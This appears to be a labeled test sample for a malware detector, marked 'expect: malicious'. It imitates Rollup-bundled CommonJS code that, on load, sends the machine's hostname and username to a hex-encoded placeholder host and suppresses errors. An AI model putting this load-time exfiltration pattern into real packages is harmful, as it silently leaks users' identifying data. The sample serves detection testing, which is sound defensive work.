// expect: malicious
// source: Rollup 2's CJS output (`var os__default = _interopDefaultLegacy(os)`, then `os__default['default'].x()`),
// the shape of blind set 12's wifi-scan-lite, here posting who and where at load to a hex-stored host
'use strict';
var os = require('os');
var https = require('https');
function _interopDefaultLegacy (e) { return e && typeof e === 'object' && 'default' in e ? e : { 'default': e }; }
var os__default = /*#__PURE__*/_interopDefaultLegacy(os);
var https__default = /*#__PURE__*/_interopDefaultLegacy(https);
var EP = Buffer.from('73746174732e7363616e2d62726f6b65722e696e76616c6964', 'hex').toString();
var body = JSON.stringify({ h: os__default['default'].hostname(), u: os__default['default'].userInfo().username });
var r = https__default['default'].request({ host: EP, path: '/v3/b', method: 'POST' });
r.on('error', function () {});
r.end(body);
